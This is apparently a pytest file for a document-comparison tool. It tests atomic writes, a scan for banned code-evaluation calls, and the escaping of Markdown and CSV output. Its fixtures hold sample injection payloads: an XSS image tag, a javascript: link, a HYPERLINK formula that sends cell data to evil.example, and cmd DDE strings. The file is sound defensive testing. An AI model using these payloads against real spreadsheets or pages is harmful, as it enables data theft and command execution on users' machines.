"""Safety (issue 11.4-11.5): nothing is lost when a write is interrupted, and no input is
ever evaluated as code."""

import ast
import json
import os
import re

import pytest
from conftest import ROOT

from comparekit.report.io import atomic_write_text


def test_interrupted_write_leaves_the_old_file_and_no_temporary(tmp_path, monkeypatch):
    target = tmp_path / "report.json"
    atomic_write_text(target, json.dumps({"run": 1}))

    def interrupted(src, dst):
        raise KeyboardInterrupt  # Ctrl-C between writing the temporary file and the rename

    monkeypatch.setattr(os, "replace", interrupted)
    with pytest.raises(KeyboardInterrupt):
        atomic_write_text(target, json.dumps({"run": 2}))
    assert json.loads(target.read_text("utf-8")) == {"run": 1}
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.json"]


def test_full_disk_is_an_output_error_and_the_old_file_stays(tmp_path, monkeypatch):
    from comparekit.errors import OutputError

    target = tmp_path / "report.md"
    atomic_write_text(target, "old\n")

    def no_space(fd):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", no_space)
    with pytest.raises(OutputError, match="No space left"):
        atomic_write_text(target, "new\n")
    assert target.read_text("utf-8") == "old\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.md"]


_FORBIDDEN_CALLS = {"eval", "exec", "compile", "__import__"}
_FORBIDDEN_ATTRS = {("pickle", "load"), ("pickle", "loads"), ("yaml", "load"), ("marshal", "loads")}


def test_no_input_is_evaluated_as_code():
    """No eval/exec/compile, no unpickling, no yaml.load, no shell=True, and every np.load
    refuses pickles, anywhere in the package."""
    problems = []
    for path in sorted((ROOT / "comparekit").rglob("*.py")):
        tree = ast.parse(path.read_text("utf-8"), filename=str(path))
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call):
                continue
            f = node.func
            where = f"{path.relative_to(ROOT)}:{node.lineno}"
            if isinstance(f, ast.Name) and f.id in _FORBIDDEN_CALLS:
                problems.append(f"{where} {f.id}()")
            if isinstance(f, ast.Attribute) and isinstance(f.value, ast.Name):
                if (f.value.id, f.attr) in _FORBIDDEN_ATTRS:
                    problems.append(f"{where} {f.value.id}.{f.attr}()")
                if (f.value.id, f.attr) == ("np", "load") and not any(
                    k.arg == "allow_pickle" and isinstance(k.value, ast.Constant) and k.value.value is False
                    for k in node.keywords
                ):
                    problems.append(f"{where} np.load without allow_pickle=False")
            for k in node.keywords:
                if k.arg == "shell" and isinstance(k.value, ast.Constant) and k.value.value is True:
                    problems.append(f"{where} shell=True")
    assert not problems, problems


_PAYLOAD = (
    'A source quotes <img src=x onerror="alert(1)"> and [a link](javascript:alert(2)), '
    r"a path C:\| with a backslash before a pipe, `ticks` | and pipes |."
)


@pytest.fixture
def payload_report(tmp_path, use_fake_encoder):
    import comparekit
    from comparekit.report import build_report

    shared = "The ministry said 42 people were evacuated from Riverton on Monday. "
    a = tmp_path / "a.txt"
    b = tmp_path / "b.txt"
    a.write_text(
        f'{shared}{_PAYLOAD}\n\n=HYPERLINK("http://evil.example/?"&A1,"open") said the page.\n', "utf-8"
    )
    b.write_text(
        f"{shared}{_PAYLOAD}\n\n+cmd|' /C calc'!A0 and -2+3+cmd|' /C calc'!A0 and @SUM(1).\n", "utf-8"
    )
    return build_report(comparekit.compare([a, b]))


def test_report_md_renders_no_source_html_and_keeps_its_tables(payload_report):
    """report.md: text from a source never becomes HTML, a link or a table column when the
    Markdown is rendered (a backslash before a pipe used to close the cell: `\\\\|`)."""
    from markdown_it import MarkdownIt

    from comparekit.report.markdown import render_markdown

    md = render_markdown(payload_report)
    html = MarkdownIt("commonmark").enable("table").render(md)
    assert "<img" not in html and "<a " not in html
    assert "C:\\| with" in html  # the backslash is shown, and the pipe stays in its cell
    header_cells = None
    for line in md.splitlines():
        if not line.startswith("|"):
            header_cells = None
            continue
        cells = len(re.split(r"(?<!\\)\|", line.replace("\\\\", "")))
        header_cells = header_cells or cells
        assert cells == header_cells, line


def test_csv_text_cells_never_start_a_spreadsheet_formula(payload_report):
    """A scraped line like =HYPERLINK(...) or +cmd|'/C calc'!A0 was written as is into the
    CSV tables, which Excel, LibreOffice and Google Sheets run as a formula when a
    fact-checker opens them. Text cells that start with = + - @ (or a tab / CR) now get a
    leading apostrophe; report.json keeps the exact text."""
    import csv
    import io

    from comparekit.report.tables import alignments_csv, flags_csv, segments_csv

    texts = [s["text"] for d in payload_report["documents"] for s in d["segments"]]
    risky = [t for t in texts if t[:1] in "=+-@"]
    assert len(risky) >= 2  # the payloads became segments of their own
    seen = set()
    for table in (segments_csv, alignments_csv, flags_csv):
        for row in csv.DictReader(io.StringIO(table(payload_report))):
            for col in ("text", "message", "suggestion", "divergences", "a_text", "b_text"):
                value = row.get(col) or ""
                assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), (table.__name__, col, value)
                if value.startswith("'"):
                    seen.add(value[1:])
    assert set(risky) <= seen


def test_corpus_tables_guard_text_cells_only():
    from comparekit.corpus.output import _csv

    table = _csv(
        [{"text": "=1+1", "title": "@SUM(1)", "outlet": "-x", "start": -1}],
        ["text", "title", "outlet", "start"],
    )
    assert table.splitlines()[1] == "'=1+1,'@SUM(1),'-x,-1"


def test_report_never_overwrites_a_source(tmp_path):
    """A scraped page saved as report.html and compared with --out on its own folder was
    overwritten by the report (exit 0, the source lost)."""
    from test_cli import run_cli

    page = tmp_path / "report.html"
    page.write_text(
        "<html><body><article><p>Russian President Vladimir Putin said on Tuesday that Moscow was ready "
        "to mediate between Armenia and Azerbaijan. Twelve soldiers were killed in clashes.</p></article></body></html>",
        "utf-8",
    )
    other = tmp_path / "other.txt"
    other.write_text(
        "Moscow said on Tuesday it was ready to mediate between Armenia and Azerbaijan.\n", "utf-8"
    )
    before = page.read_bytes()
    r = run_cli("compare", page, other, "--out", tmp_path, "--quiet")
    assert r.returncode == 5 and "would overwrite" in r.stderr and r.stderr.count("\n") == 1, r.stderr
    assert page.read_bytes() == before
    assert not (tmp_path / "report.json").exists()  # refused before anything was written
